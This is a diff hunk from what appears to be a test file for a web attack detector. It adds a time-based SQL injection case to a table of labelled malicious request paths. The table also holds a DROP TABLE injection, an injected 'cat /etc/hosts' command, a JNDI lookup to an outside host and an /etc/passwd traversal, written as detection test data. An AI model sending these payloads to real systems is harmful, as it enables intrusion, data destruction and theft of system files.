@@ -39,6 +39,7 @@ def signals(*lines: str) -> list[str]:
         ("/item?id=1;DROP%20TABLE%20users", "sql-injection"),
         ("/item?id=1%2527%2520OR%25201%253D1", "sql-injection"),
         ("/item?id=sleep(5)", "sql-injection"),
+        ("/search?q=1%3BSELECT%20pg_sleep%285%29--", "sql-injection"),
         ("/ping?host=127.0.0.1;cat%20/etc/hosts", "command-injection"),
         ("/?x=${jndi:ldap://203.0.113.7/a}", "command-injection"),
         ("/static/..%2f..%2f..%2fetc%2fpasswd", "path-traversal"),
